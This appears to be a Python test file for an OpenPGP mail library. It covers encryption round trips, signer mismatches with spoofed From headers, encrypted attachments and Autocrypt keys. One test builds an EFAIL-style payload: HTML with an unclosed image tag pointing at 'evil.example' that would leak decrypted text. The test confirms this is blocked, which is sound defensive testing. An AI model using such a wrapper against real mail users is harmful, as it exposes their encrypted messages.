"""Whole mails with OpenPGP in them, as they come and as they go."""

from __future__ import annotations

from base64 import encodebytes
from datetime import UTC, datetime

from postvak.crypto import autocrypt
from postvak.crypto.opening import open_mail
from postvak.crypto.values import Act, Kind, Opened, State, Verdict
from postvak.crypto.writing import Wanted, protect
from postvak.mail.parse import attachment_content, parse
from tests.crypto.gnupg import Gnupg

OURS, ANN = "support@bedrijf.example", "ed25519@klant.example"
SECRET = "The secret word is Hyacint."
MAIL = f"""From: Ann <{ANN}>
To: {OURS}
Subject: Secret plan
Message-ID: <1@klant.example>
MIME-Version: 1.0
Content-Type: text/plain; charset=utf-8

{SECRET}
""".replace("\n", "\r\n").encode()


def now() -> datetime:
    return datetime.now(UTC)


def opened(gnupg: Gnupg, raw: bytes) -> Opened:
    return open_mail(raw, gnupg.ring(OURS, known=(ANN,)), at=now())


def mail(kind: str, *parts: bytes, sender: str = ANN) -> bytes:
    head = f"From: Ann <{sender}>\r\nTo: {OURS}\r\nSubject: x\r\nMIME-Version: 1.0\r\nContent-Type: {kind}; boundary=b\r\n\r\n".encode()
    return head + b"".join(b"--b\r\n" + part + b"\r\n" for part in parts) + b"--b--\r\n"


def part(kind: str, content: bytes, name: str = "") -> bytes:
    place = f'Content-Disposition: attachment; filename="{name}"\r\n' if name else ""
    return f"Content-Type: {kind}\r\n{place}Content-Transfer-Encoding: base64\r\n\r\n".encode() + encodebytes(content)


def test_a_signed_and_encrypted_mail_with_a_hidden_subject_goes_there_and_back(gnupg: Gnupg) -> None:
    wanted = Wanted(kind=Kind.pgp, signer=gnupg.key(ANN), recipients=[gnupg.key(OURS)], hides_subject=True, at=now())
    sent = protect(MAIL, wanted)
    assert b"Hyacint" not in sent
    assert b"plan" not in sent
    found = opened(gnupg, sent)
    assert (found.state, found.encrypted, found.subject) == (State.open, "pgp", "Secret plan")
    assert [(layer.act, layer.verdict, layer.covers_all) for layer in found.layers] == [
        (Act.encrypted, None, True),
        (Act.signed, Verdict.good, True),
    ]
    assert SECRET in parse(found.raw).text


def test_a_signature_is_of_somebody_else_when_from_says_another_or_two(gnupg: Gnupg) -> None:
    signed = protect(MAIL, Wanted(kind=Kind.pgp, signer=gnupg.key(ANN), at=now()))
    cases = {
        signed: Verdict.good,
        signed.replace(f"From: Ann <{ANN}>".encode(), b"From: Ann <director@klant.example>", 1): Verdict.other_signer,
        b"From: director@klant.example\r\n" + signed: Verdict.other_signer,
        signed.replace(f"Ann <{ANN}>".encode(), f"director@klant.example, {ANN}".encode(), 1): Verdict.other_signer,
    }
    for raw, verdict in cases.items():
        signature = opened(gnupg, raw).signature
        assert signature
        assert signature.verdict is verdict


def test_html_around_an_encrypted_part_cannot_swallow_it(gnupg: Gnupg) -> None:
    """EFAIL: an image whose address would be the secret."""
    sealed = gnupg("--armor", "--encrypt", "-r", OURS, given=b"Content-Type: text/html\r\n\r\n" + SECRET.encode())
    pair = (
        b"Content-Type: multipart/encrypted; protocol=\"application/pgp-encrypted\"; boundary=c\r\n\r\n--c\r\nContent-Type: application/pgp-encrypted\r\n\r\n"
        b"Version: 1\r\n--c\r\nContent-Type: application/octet-stream\r\n\r\n" + sealed + b"\r\n--c--\r\n"
    )  # fmt: skip
    before = b'Content-Type: text/html\r\n\r\n<img src="http://evil.example/'
    found = opened(gnupg, mail("multipart/mixed", before, pair, b'Content-Type: text/html\r\n\r\n">'))
    assert found.state is State.open
    assert all(not layer.covers_all for layer in found.layers)
    assert SECRET not in parse(found.raw).html


def test_what_exchange_made_of_a_pgp_mail_is_opened(gnupg: Gnupg) -> None:
    sealed = gnupg("--armor", "--encrypt", "-r", OURS, given=b"Content-Type: text/plain\r\n\r\n" + SECRET.encode())
    parts = [
        part("text/plain", b"\r\n"),
        part("application/pgp-encrypted", b"Version: 1\r\n", "PGPMIME version identification"),
    ]
    found = opened(gnupg, mail("multipart/mixed", *parts, part("application/octet-stream", sealed, "encrypted.asc")))
    assert (found.state, SECRET in parse(found.raw).text) == (State.open, True)


def test_an_encrypted_attachment_is_opened_and_keeps_its_name(gnupg: Gnupg) -> None:
    sealed = gnupg("--encrypt", "-r", OURS, given=b"a,b\r\n1,2\r\n")
    text = b"Content-Type: text/plain\r\n\r\nSee the file."
    found = opened(gnupg, mail("multipart/mixed", text, part("application/octet-stream", sealed, "figures.csv.gpg")))
    file, content = attachment_content(found.raw, parse(found.raw).attachments[0].index)
    assert (file.name, content, found.layers[0].covers_all) == ("figures.csv", b"a,b\r\n1,2\r\n", False)


def test_keys_that_come_along_are_offered_by_their_way(gnupg: Gnupg) -> None:
    header = b"Autocrypt: " + autocrypt.header_of(gnupg.key(ANN), address=ANN) + b"\r\n"
    attached = part("application/pgp-keys", gnupg.public("rsa@klant.example"), "key.asc")
    found = opened(gnupg, header + mail("multipart/mixed", b"Content-Type: text/plain\r\n\r\nHello", attached))
    assert {key.emails[0] for key in found.found} == {ANN, "rsa@klant.example"}
    assert found.autocrypt == {gnupg.key(ANN).fingerprint}
    assert not any(key.is_trusted or key.private for key in found.found)


def test_without_a_key_the_mail_stays_as_it_came(gnupg: Gnupg) -> None:
    sent = protect(MAIL, Wanted(kind=Kind.pgp, recipients=[gnupg.known("rsa@klant.example")], at=now()))
    found = opened(gnupg, sent)
    assert (found.raw, found.state, found.encrypted) == (sent, State.no_key, "pgp")
    assert set(found.missing) & set(gnupg.known("rsa@klant.example").ids)
